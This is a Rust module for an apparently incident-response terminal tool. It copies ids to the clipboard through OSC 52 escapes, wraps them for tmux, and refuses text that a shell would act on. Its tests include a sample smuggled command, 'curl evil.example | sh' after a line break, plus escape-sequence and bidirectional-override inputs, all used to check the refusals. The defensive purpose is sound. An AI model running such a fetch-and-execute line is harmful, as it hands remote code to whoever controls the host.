//! Copying to the clipboard of the terminal the responder sits at, over SSH and through tmux:
//! the OSC 52 escape (`ESC ] 52 ; c ; <base64> BEL`), which the terminal emulator, not the
//! remote host, turns into a clipboard write. Inside tmux the escape is wrapped in tmux's
//! passthrough (`ESC P tmux; … ESC \`, every ESC inside doubled) so tmux hands it on.
//!
//! What is copied is mostly outside text — an incident id, a trace id — and it goes where the
//! responder pastes it: a shell. Text that would act there (a line break runs what came
//! before it; a control or bidirectional character hides what it does) is refused, not
//! escaped: an escaped id is another id, and a copy that silently differs from what the
//! backend calls the incident is worse than none. The screen shows it escaped, and says why
//! nothing was copied. Text too long for a terminal's clipboard is refused for the same
//! reason, rather than copied cut short.

use std::io::{self, Write};

/// The largest text sent: terminals drop (or truncate) longer OSC 52 payloads.
pub const MAX_COPY_BYTES: usize = 74_994;

const BASE64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

/// Standard base64 with padding (RFC 4648), as OSC 52 expects.
pub fn base64(bytes: &[u8]) -> String {
    let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
    for chunk in bytes.chunks(3) {
        let b = [
            chunk[0],
            chunk.get(1).copied().unwrap_or(0),
            chunk.get(2).copied().unwrap_or(0),
        ];
        let n = u32::from(b[0]) << 16 | u32::from(b[1]) << 8 | u32::from(b[2]);
        let sextet = |shift: u32| char::from(BASE64[((n >> shift) & 0x3f) as usize]);
        out.push(sextet(18));
        out.push(sextet(12));
        out.push(if chunk.len() > 1 { sextet(6) } else { '=' });
        out.push(if chunk.len() > 2 { sextet(0) } else { '=' });
    }
    out
}

/// Why `text` must not be copied, if it must not: said after the name of what it is
/// ("the incident id …").
pub fn refusal(text: &str) -> Option<String> {
    if let Some(shown) = crate::inert::unsafe_to_paste(text) {
        return Some(format!(
            "holds {shown}, which a shell would act on when pasted: not copied"
        ));
    }
    (text.len() > MAX_COPY_BYTES).then(|| {
        format!(
            "is {} bytes, more than a terminal's clipboard takes ({MAX_COPY_BYTES}): not copied",
            text.len()
        )
    })
}

/// The escape sequence that puts `text` on the clipboard; wrapped for tmux when `tmux`.
pub fn osc52(text: &str, tmux: bool) -> String {
    let mut end = text.len().min(MAX_COPY_BYTES);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    let sequence = format!("\x1b]52;c;{}\x07", base64(&text.as_bytes()[..end]));
    if tmux {
        format!("\x1bPtmux;{}\x1b\\", sequence.replace('\x1b', "\x1b\x1b"))
    } else {
        sequence
    }
}

/// Writes the escape for `text` to `out` (the terminal) and flushes it. Runs inside tmux
/// when `$TMUX` is set.
pub fn copy(out: &mut impl Write, text: &str) -> io::Result<()> {
    let tmux = std::env::var_os("TMUX").is_some_and(|v| !v.is_empty());
    out.write_all(osc52(text, tmux).as_bytes())?;
    out.flush()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base64_matches_the_rfc_examples() {
        let cases = [
            ("", ""),
            ("f", "Zg=="),
            ("fo", "Zm8="),
            ("foo", "Zm9v"),
            ("foob", "Zm9vYg=="),
            ("fooba", "Zm9vYmE="),
            ("foobar", "Zm9vYmFy"),
        ];
        for (plain, encoded) in cases {
            assert_eq!(base64(plain.as_bytes()), encoded, "{plain}");
        }
    }

    #[test]
    fn the_escape_is_osc_52_and_tmux_gets_it_wrapped() {
        assert_eq!(osc52("abc", false), "\x1b]52;c;YWJj\x07");
        assert_eq!(osc52("abc", true), "\x1bPtmux;\x1b\x1b]52;c;YWJj\x07\x1b\\");
    }

    #[test]
    fn long_text_is_cut_on_a_character_boundary() {
        let text = "é".repeat(MAX_COPY_BYTES);
        let sequence = osc52(&text, false);
        let payload = sequence
            .trim_start_matches("\x1b]52;c;")
            .trim_end_matches('\x07');
        assert!(payload.len() <= MAX_COPY_BYTES.div_ceil(3) * 4);
    }

    #[test]
    fn text_that_would_act_in_a_shell_or_be_cut_is_refused() {
        assert_eq!(refusal("4bf92f3577b34da6a3ce929d0e0e4736"), None);
        assert_eq!(refusal(&"é".repeat(MAX_COPY_BYTES / 2)), None);
        let why = refusal("DEMO-1\ncurl evil.example | sh").unwrap();
        assert!(why.starts_with("holds \\n, which a shell"), "{why}");
        let why = refusal("x\u{1b}]52;c;eA==\u{7}").unwrap();
        assert!(why.starts_with("holds \\e"), "{why}");
        assert!(refusal("abc\u{202e}").is_some());
        let why = refusal(&"a".repeat(MAX_COPY_BYTES + 1)).unwrap();
        assert!(
            why.contains("more than a terminal's clipboard takes"),
            "{why}"
        );
    }

    #[test]
    fn copy_writes_the_sequence() {
        let mut out = Vec::new();
        copy(&mut out, "4bf92f35").unwrap();
        let text = String::from_utf8(out).unwrap();
        assert!(text.contains("]52;c;NGJmOTJmMzU=\x07"), "{text:?}");
    }
}
